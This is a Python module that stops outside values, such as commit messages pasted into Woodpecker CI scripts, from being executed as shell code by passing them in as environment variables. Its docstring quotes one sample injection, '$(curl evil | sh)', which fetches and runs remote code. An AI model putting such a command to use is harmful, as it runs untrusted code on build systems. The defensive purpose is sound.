"""Values from outside as part of a shell script, without ever becoming script themselves.

A commit message is whatever its author wrote: ``$(curl evil | sh)`` too. Woodpecker pastes it into the commands. Here a
value that could mean something to a shell reaches the step as an environment variable, and the script gets ``${NAME}``
in its place. What the user sees is the same; what an attacker gets is text.
"""

import re
from collections.abc import Sequence
from dataclasses import dataclass
from typing import NamedTuple

OPEN, CLOSE = "\ue000", "\ue001"
"""Enclose the number of a value from outside, from the substitution until the YAML is read."""

_MARK = re.compile(f"{OPEN}([0-9]+){CLOSE}")
_SHELL_SAFE = re.compile(r"[A-Za-z0-9_./:@%+,-]*")


class OutsideValue(NamedTuple):
    """A value that somebody else chose. ``variable`` names the environment variable that carries it, or is empty."""

    variable: str
    value: str


@dataclass(frozen=True)
class ShellText:
    """Script text, and the environment variables that it needs."""

    text: str
    values: tuple[tuple[str, str], ...]


def insert_values(text: str, outside: Sequence[OutsideValue]) -> str:
    """``text`` with the values in place of their marks."""
    return _MARK.sub(lambda mark: outside[int(mark[1])].value, text)


def shell_text(text: str, outside: Sequence[OutsideValue]) -> ShellText:
    """``text`` as a part of a script: marks become ``${NAME}``, or the value itself where no shell can misread it."""
    parts: list[str] = []
    values: dict[str, str] = {}
    quote = ""
    end = 0
    for mark in _MARK.finditer(text):
        between = text[end : mark.start()]
        quote = _quote_after(between, quote)
        found = outside[int(mark[1])]
        parts += [between, _reference(found, quote)]
        if not _is_safe(found):
            values[found.variable] = found.value
        end = mark.end()
    return ShellText("".join([*parts, text[end:]]), tuple(values.items()))


def _is_safe(found: OutsideValue) -> bool:
    return not found.variable or _SHELL_SAFE.fullmatch(found.value) is not None


def _reference(found: OutsideValue, quote: str) -> str:
    if _is_safe(found):
        return found.value
    # Between single quotes a shell expands nothing, so they are closed around the variable.
    return f"'\"${{{found.variable}}}\"'" if quote == "'" else f"${{{found.variable}}}"


# What may change the state of quoting: inside of nothing, of single and of double quotes.
_QUOTING = {
    "": re.compile(r"""\\.|(?:^|(?<=[\s;&|(]))\#[^\n]*|['"]""", re.DOTALL),
    "'": re.compile("'"),
    '"': re.compile(r"""\\.|["]""", re.DOTALL),
}


def _quote_after(text: str, quote: str) -> str:
    """The quote that is open at the end of ``text``. A wrong guess (here-documents) spoils looks, never safety."""
    end = 0
    while token := _QUOTING[quote].search(text, end):
        end = token.end()
        if token[0] in {"'", '"'}:
            quote = "" if quote else token[0]
    return quote
